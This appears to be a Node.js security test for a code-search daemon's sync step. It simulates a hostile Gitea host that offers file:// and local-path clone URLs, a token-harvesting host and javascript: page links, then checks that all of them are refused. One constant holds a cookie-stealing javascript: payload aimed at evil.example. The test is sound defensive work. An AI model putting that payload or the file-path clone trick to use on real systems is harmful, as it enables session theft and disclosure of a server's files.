// A code host is not trusted: a real `trawl sync` against a hostile Gitea on loopback. Its
// answer points two repositories' clone URLs at a repository on this machine's disk that
// holds a secret (a file:// URL and an absolute path), one at another host that records
// what it is sent, and gives a served repository a `javascript:` page. The data dir holds
// what a trawl without these checks made of the same answer: the secret indexed in place,
// with the `javascript:` page. An anonymous client of the daemon then never finds the
// secret once the sync has run, and never gets `javascript:` in any answer, before the
// sync or after; the other host never gets the token; the connection's two honest
// repositories are indexed, and the refused ones recorded with the reason.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { parseConfig } from '../../daemon/config/load.ts';
import { startDaemon } from '../../daemon/daemon.ts';
import { silentHttpLogger } from '../../daemon/http/logging.ts';
import { indexPath } from '../../daemon/index/indexer.ts';
import { localRepoMeta } from '../../daemon/index/detect-repo.ts';
import { loadManifest } from '../../daemon/index/manifest.ts';
import { openStore } from '../../daemon/store/open.ts';
import { tempDir } from '../helpers/corpus.ts';
import { call, type Answer } from '../helpers/daemon.ts';
import { TestRepo } from '../helpers/git.ts';
import { startGitServer } from '../helpers/git-server.ts';
import { ResponseChecker } from '../helpers/openapi.ts';
import { runTrawl } from '../helpers/trawl-cli.ts';
import { startFake, TOKEN } from '../hosts/fake-hosts.ts';

const TOKEN_ENV = 'TRAWL_FAULT_GITEA_TOKEN';
const SECRET = 'DB_PASSWORD=hunter2-from-this-servers-disk';
const SCRIPT = 'javascript:fetch(`//evil.example/?`+document.cookie)';

test("a hostile code host can neither index this server's disk, nor get the token elsewhere, nor serve a javascript: link", async () => {
  const dir = tempDir('code-host-urls');
  const data = join(dir.path, 'data');
  const closers: Array<() => Promise<void>> = [];
  try {
    // On this machine's disk, outside anything configured: a repository with a secret.
    const secret = TestRepo.init(join(dir.path, 'disk', 'ops-secrets'));
    secret.commit({ 'prod.env': `${SECRET}\n` });
    // The host's honest repositories, served over http.
    const served = join(dir.path, 'served');
    TestRepo.init(join(served, 'acme', 'docs')).commit({ 'README.md': 'docs_marker\n' });
    TestRepo.init(join(served, 'acme', 'lib')).commit({ 'lib.c': 'int lib_marker;\n' });
    const gitServer = await startGitServer(served, { credentials: { password: TOKEN } });
    closers.push(gitServer.close);
    // Another host, which records the credentials it is offered.
    const offered: string[] = [];
    const elsewhere = createServer((req, res) => {
      offered.push(req.headers.authorization ?? '(none)');
      req.resume();
      res.writeHead(401, { 'www-authenticate': 'Basic realm="git"' }).end();
    });
    await new Promise<void>((r) => elsewhere.listen(0, '127.0.0.1', r));
    const elsewhereUrl = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
    closers.push(() => new Promise<void>((r) => elsewhere.close(() => r())));

    const cloneUrls: Record<string, string> = {
      api: pathToFileURL(secret.path).href,
      web: secret.path,
      tool: `${elsewhereUrl}/acme/tool.git`,
      docs: `${gitServer.url}/acme/docs`,
      lib: `${gitServer.url}/acme/lib`,
    };
    const fake = await startFake('gitea', {
      repos: Object.keys(cloneUrls).map((name) => ({ owner: 'acme', name, group: 'g' })),
      cloneUrl: (r) => cloneUrls[r.name],
      webUrl: (r) => (r.name === 'docs' || r.name === 'api' ? SCRIPT : undefined),
    });
    closers.push(fake.close);
    const configPath = join(dir.path, 'trawl.json');
    const connection = { type: 'gitea', url: fake.url, token: { env: TOKEN_ENV }, cloneOrigins: [gitServer.url], orgs: ['acme'] };
    writeFileSync(configPath, JSON.stringify({ settings: { anonymousAccess: true, symbols: false }, connections: { gt: connection } }));
    const config = parseConfig(readFileSync(configPath, 'utf8'), configPath);

    // What a trawl without the checks made of this answer: acme/api indexed in place, its page javascript:.
    const store = openStore(data);
    const conn = await store.upsertConnection('gt', 'gitea');
    const api = await store.upsertRepo({
      repoName: '127.0.0.1/acme/api',
      displayName: 'acme/api',
      codeHostType: 'gitea',
      connectionId: conn.id,
      cloneUrl: cloneUrls.api,
      externalWebUrl: SCRIPT,
      isFork: false,
      isArchived: false,
      visibility: 'public',
    });
    await indexPath(secret.path, {
      dataDir: data,
      symbols: false,
      register: async (d) => ({
        repoId: api.repoId,
        repo: { ...localRepoMeta(d, api.repoName), displayName: 'acme/api', codeHostType: 'gitea', externalWebUrl: SCRIPT },
      }),
    });
    await store.updateRepo(api.repoId, { state: 'indexed', indexedAt: new Date().toISOString() });
    await store.close();

    const daemon = await startDaemon({ config, dataDir: data, host: '127.0.0.1', port: 0, logger: silentHttpLogger, workers: 1, sync: false });
    closers.push(() => daemon.close());
    const checker = new ResponseChecker((await call(`${daemon.url}/api/openapi.json`)).json);
    const answers: Answer[] = [];
    /** An anonymous request, its answer checked against the OpenAPI document and kept for the final scan. */
    const ask = async (method: 'GET' | 'POST', path: string, json?: unknown): Promise<Answer> => {
      const a = await call(`${daemon.url}${path}`, json === undefined ? {} : { json });
      checker.check(method, path.split('?')[0]!, a.status, a.json);
      answers.push(a);
      return a;
    };
    const search = async (query: string) =>
      (await ask('POST', '/api/search', { query, matches: 50 })).json.files as Array<{ repository: string; externalWebUrl?: string }>;
    const source = (repo: string, path: string) => ask('GET', `/api/source?repo=${encodeURIComponent(repo)}&path=${encodeURIComponent(path)}`);

    // Before the sync: the index written without the checks is served, but not its page.
    assert.equal((await search('DB_PASSWORD')).length, 1, 'the old index holds the secret (the state the sync must clean up)');
    const before = await source(api.repoName, 'prod.env');
    assert.equal(before.status, 200);
    assert.equal(before.json.repoExternalWebUrl, undefined);
    assert.equal(before.json.externalWebUrl, undefined);
    assert.deepEqual(
      (await ask('GET', '/api/repos')).json.map((r: { externalWebUrl?: string }) => r.externalWebUrl),
      [undefined],
    );

    // The sync, as an operator runs it.
    process.env[TOKEN_ENV] = TOKEN;
    const started = performance.now();
    const run = await runTrawl(['sync', '--config', configPath, '--data-dir', data], dir.path);
    const seconds = (performance.now() - started) / 1000;
    const afterSync = answers.length;

    // After: the secret is gone from every answer; the honest repositories are there, without a javascript: page.
    assert.deepEqual(await search('DB_PASSWORD'), [], `${run.stdout}${run.stderr}`);
    assert.deepEqual(await search('hunter2'), []);
    assert.equal((await source(api.repoName, 'prod.env')).status, 404);
    assert.deepEqual(offered, [], 'the other host is never contacted, so never offered the token');
    // What the operator is told: each refusal, the count, the exit status; the plain-http host and the pages left out, once each.
    assert.equal(run.code, 1, `${run.stdout}${run.stderr}`);
    for (const name of ['api', 'web', 'tool'])
      assert.match(run.stdout, new RegExp(`connection gt: 127\\.0\\.0\\.1/acme/${name}: REFUSED, skipped: clone URL .* refused`));
    assert.match(run.stdout, /sync done: 2 indexed, 0 up to date, 0 failed, 3 refused,/);
    assert.equal(run.stderr.split('\n').filter((l) => l.includes('over plain http')).length, 1, run.stderr);
    assert.equal(run.stderr.split('\n').filter((l) => l.includes('web page URL that is not http(s)')).length, 2, run.stderr);
    assert.ok(seconds < 30, `the sync took ${seconds.toFixed(1)} s`);
    const [docs] = await search('docs_marker');
    assert.equal(docs?.repository, '127.0.0.1/acme/docs');
    assert.equal(docs.externalWebUrl, undefined);
    const [lib] = await search('lib_marker');
    assert.equal(lib?.externalWebUrl, `${fake.url}/acme/lib/src/branch/main/lib.c`);
    const repos = (await ask('GET', '/api/repos')).json as Array<{ repoName: string; externalWebUrl?: string }>;
    assert.deepEqual(
      repos.map((r) => [r.repoName, r.externalWebUrl]),
      [
        ['127.0.0.1/acme/docs', undefined],
        ['127.0.0.1/acme/lib', `${fake.url}/acme/lib`],
      ],
    );
    const docsSource = await source('127.0.0.1/acme/docs', 'README.md');
    assert.equal(docsSource.status, 200);
    assert.equal(docsSource.json.repoExternalWebUrl, undefined);
    for (const a of answers) assert.doesNotMatch(a.text, /javascript:/i);
    for (const a of answers.slice(afterSync)) assert.doesNotMatch(a.text, /hunter2/);

    // The refused repositories are recorded, with the reason and without the refused location; nothing of them is left to serve.
    const after = openStore(data);
    try {
      for (const name of ['api', 'web', 'tool']) {
        const r = (await after.getRepoByName(`127.0.0.1/acme/${name}`))!;
        assert.equal(r.state, 'failed', name);
        assert.match(r.lastError ?? '', /clone URL .* refused/, name);
        assert.equal(r.cloneUrl, undefined, name);
        assert.equal(r.indexedAt, undefined, name);
      }
      assert.equal((await after.getRepoByName('127.0.0.1/acme/docs'))!.externalWebUrl, undefined, 'the javascript: page is not stored either');
    } finally {
      await after.close();
    }
    const manifest = loadManifest(data, api.repoId);
    assert.ok(manifest !== undefined && !('unreadable' in manifest) && manifest.shards.length === 0, 'the old index of acme/api is retired');
  } finally {
    for (const close of closers.reverse()) await close().catch(() => {});
    dir.cleanup();
  }
});
